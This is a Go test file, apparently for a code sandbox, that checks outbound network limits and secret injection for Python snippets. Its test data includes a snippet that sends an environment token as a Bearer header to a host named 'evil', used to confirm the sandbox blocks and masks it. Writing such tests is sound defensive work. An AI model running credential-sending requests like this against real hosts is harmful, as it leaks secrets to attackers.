package egress

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// fetch is a snippet that asks a host, with the secret's placeholder in a header.
const fetch = `import os, urllib.request
for host in ["` + api + `", "` + evil + `"]:
    r = urllib.request.Request("https://" + host + ":8443/echo")
    r.add_header("Authorization", "Bearer " + os.environ.get("TOKEN", "none"))
    try: print(urllib.request.urlopen(r, timeout=20).read().decode())
    except OSError as e: print(host, "failed:", e)
`

// snippet runs a Python snippet with mcpbox code.
func (w *world) snippet(uid int, code string, flags ...string) *ran {
	w.t.Helper()
	args := append([]string{"code", "--json", "--best-effort", "--no-store", "--lang", "python"},
		flags...)
	r := w.start(uid, "", append(args, "-c", code)...)
	var out struct {
		Stdout string `json:"stdout"`
		Stderr string `json:"stderr"`
		Reason string `json:"reason"`
	}
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil && r.code != 125 {
		w.t.Fatalf("%v: %s%s", err, r.stdout, r.stderr)
	}
	if err := json.Unmarshal([]byte(r.stdout), &r.result); err != nil && r.code != 125 {
		w.t.Fatal(err)
	}
	r.stdout, r.stderr = out.Stdout, r.stderr+out.Stderr+out.Reason
	return r
}

func TestASnippetReachesOnlyAllowedHosts(t *testing.T) {
	w, _ := secretive(t)
	code := strings.ReplaceAll(fetch, "https://", "http://")
	code = strings.ReplaceAll(code, ":8443/echo", "/")
	for _, uid := range []int{0, 12345} {
		if r := w.snippet(uid, code); strings.Contains(r.stdout, "this is") {
			t.Errorf("uid %d: without --allow-net: %s%s", uid, r.stdout, r.stderr)
		}
		r := w.snippet(uid, code, "--allow-net", api)
		if !strings.Contains(r.stdout, "this is api") || strings.Contains(r.stdout, "this is "+
			"evil") {
			t.Errorf("uid %d: %s%s", uid, r.stdout, r.stderr)
		}
		if e := r.event("egress:name"); e == nil || e.Network.Name != evil {
			t.Errorf("uid %d: event %+v", uid, e)
		}
		if n := r.result.Network; len(n) != 1 || n[0].Host != api || n[0].Received == 0 {
			t.Errorf("uid %d: network %+v", uid, n)
		}
	}
	r := w.start(0, "", "code", "--best-effort", "--no-store", "--lang", "python", "--allow-net",
		api, "-c", code)
	if !strings.Contains(r.stderr, "hint: to allow it: --allow-net "+evil) {
		t.Errorf("no hint: %s", r.stderr)
	}
	if r := w.snippet(0, "", "--policy", "maximum", "--allow-net", api); r.code != 125 ||
		!strings.Contains(r.stderr, "allows no sockets") {
		t.Errorf("maximum: %d %s", r.code, r.stderr)
	}
}

func TestASnippetUsesASecretAndNeverHasIt(t *testing.T) {
	w, asked := secretive(t)
	w.env = []string{"SSL_CERT_FILE=" + w.CA.File, "TOKEN_OUTSIDE=" + token}
	file := filepath.Join(t.TempDir(), "code.yaml")
	policy := fmt.Sprintf(`version: 1
extends: code-standard
network: {mode: allow, allow: ["%s:8443", "%s:8443"]}
secrets: [{name: TOKEN, hosts: ["%s:8443"], header: Authorization, format: "Bearer {secret}"}]
`, api, evil, api)
	if err := os.WriteFile(file, []byte(policy), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := w.snippet(0, fetch, "--policy", file); r.code != 125 ||
		!strings.Contains(r.stderr, "nothing says where it comes from") {
		t.Errorf("without a source: %d %s%s", r.code, r.stdout, r.stderr)
	}
	r := w.snippet(0, fetch, "--policy", file, "--secret", "TOKEN=env:TOKEN_OUTSIDE")
	if strings.Contains(r.stdout+r.stderr, token) || !strings.Contains(r.stdout, masked) {
		t.Errorf("%s%s", r.stdout, r.stderr)
	}
	if r.event("egress:echo") == nil {
		t.Errorf("no event of the echo: %+v", r.result.Events)
	}
	for _, line := range asked.list() {
		if strings.Contains(line, token) != strings.Contains(line, api) {
			t.Errorf("a host was sent the wrong thing: %s", line)
		}
	}
	if n := len(asked.list()); n != 1 {
		t.Errorf("%d requests arrived, %v", n, asked.list())
	}
}
